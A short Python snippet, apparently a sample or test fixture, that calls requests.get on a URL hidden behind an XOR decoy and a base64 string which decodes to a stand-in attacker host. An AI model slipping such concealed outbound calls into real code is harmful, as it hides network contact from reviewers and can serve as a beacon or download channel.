import requests
requests.get(bytes(x ^ 5 for x in [109, 113, 113, 117, 118, 63, 42, 42, 100, 43, 113, 96, 118, 113]).hex() and __import__("base64").b64decode("aHR0cHM6Ly9hLmF0dGFja2VyLnRlc3Q=").decode())
